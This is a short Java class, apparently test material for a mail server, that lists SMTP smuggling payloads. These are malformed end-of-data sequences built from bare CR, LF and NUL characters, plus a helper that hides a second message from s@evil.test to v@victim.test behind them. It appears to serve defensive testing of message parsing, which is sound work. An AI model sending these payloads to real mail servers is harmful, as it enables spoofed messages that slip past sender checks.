package dev.relaypolicy.server.wire;

import java.util.List;

/** Sequences that some servers take for the end of a message, and a second message behind them. */
public final class SmugglingPayloads {

    /** None of these ends a message, and each spoils it. */
    public static final List<String> BARE = List.of(
            "\n.\n",
            "\n.\r\n",
            "\r\n.\n",
            "\r.\r",
            "\r.\r\n",
            "\r\n.\r",
            "\n\n.\r\n",
            "\r\n\0.\r\n",
            "\r\n.\0\r\n",
            "\r\n\0.\r",
            "\r\n\0.\n",
            "\n.\r",
            "\r.\n",
            "\r\n.\r\r\n",
            "\r\r\n.\n",
            "\0\r\n.\n");

    public static final String STUFFED_DOT = "\r\n..\r\n";

    static final String FIRST = "Subject: first\r\n\r\nfirst";
    static final String SECOND = "MAIL FROM:<s@evil.test>\r\nRCPT TO:<v@victim.test>\r\nDATA\r\nsecond";
    static final String END = "\r\n.\r\n";
    static final String AFTER = "QUIT\r\n";

    private SmugglingPayloads() {}

    /** What an attacker sends after 354. */
    static String attack(String payload) {
        return FIRST + payload + SECOND + END + AFTER;
    }
}
